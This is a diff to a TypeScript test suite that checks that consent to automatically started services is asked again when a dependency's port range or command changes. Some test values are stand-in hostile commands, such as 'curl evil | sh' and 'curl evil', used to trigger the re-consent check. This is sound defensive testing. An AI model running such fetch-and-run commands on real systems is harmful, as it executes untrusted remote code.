@@ -61,6 +61,24 @@ describe('consent to automatic starts', () => {
     assert.equal((await workspace.pending()).kind, 'agreed');
   });
 
+  it('asks again for another choice of ports, and not for another port of it', async () => {
+    const workspace = new Workspace();
+    const choice = (port: number, command = 'serve ${port}', to = 8009): void => {
+      const written = serviceSpec('db', { command, portChoice: { from: 8000, to } });
+      const { port: _none, ...asWritten } = written;
+      workspace.change('db', { ...written, command: command.replace('${port}', String(port)), port, asWritten });
+    };
+    choice(8000);
+    await workspace.agree('automatic');
+    choice(8001);
+    assert.equal((await workspace.pending()).kind, 'agreed');
+    assert.equal(await workspace.consent.isAgreed(workspace.get('db')), true);
+    choice(8001, 'serve ${port}', 8010);
+    assert.equal((await workspace.pending()).kind, 'ask');
+    choice(8001, 'evil ${port}');
+    assert.equal((await workspace.pending()).kind, 'ask');
+  });
+
   for (const [what, change] of Object.entries<(workspace: Workspace) => void>({
     'the command of a dependency': (workspace) => workspace.change('db', { command: 'curl evil | sh' }),
     'the setup of a dependency': (workspace) => workspace.change('db', { setup: [{ name: 'x', command: 'curl evil' }] }),
